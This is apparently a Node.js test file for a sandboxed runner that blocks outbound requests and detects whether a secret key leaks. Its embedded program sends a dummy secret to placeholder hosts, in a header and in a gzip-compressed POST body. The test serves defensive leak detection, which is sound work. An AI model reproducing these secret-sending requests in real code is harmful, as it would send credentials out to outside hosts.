import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { test } from 'node:test';
import { childEnvironment } from './cli.ts';
import { Elsewhere } from './elsewhere.ts';

const program = `
const { gzipSync } = require('node:zlib');
const send = (url, init) => fetch(url, init).then((answer) => answer.status);
Promise.all([
  send('https://one.example/a'),
  send('https://two.example/b', { headers: { 'x-key': 'vk_secret' } }),
  send('https://three.example/c', { method: 'POST', headers: { 'content-encoding': 'gzip' }, body: gzipSync('key: vk_secret') }),
]).then((statuses) => process.exit(statuses.every((status) => status === 404) ? 0 : 1));
`;

test('a program reaches nothing, and what it sends is seen: by host, and whether the key is in it', async () => {
  await using elsewhere = await Elsewhere.start('vk_secret');
  const env = childEnvironment({ ...elsewhere.environment, NODE_USE_ENV_PROXY: '1' });
  const child = spawn(process.execPath, ['-e', program], { env, stdio: ['ignore', 'inherit', 'inherit'] });
  assert.deepEqual(await once(child, 'close'), [0, null]);
  const strays = elsewhere.news();
  const leaks = strays.filter(({ carriesKey }) => carriesKey).map(({ host }) => host);
  assert.deepEqual([...new Set(strays.map(({ host }) => host))].sort(), ['one.example', 'three.example', 'two.example']);
  assert.deepEqual(leaks.sort(), ['three.example', 'two.example']);
  assert.deepEqual(elsewhere.news(), []);
});
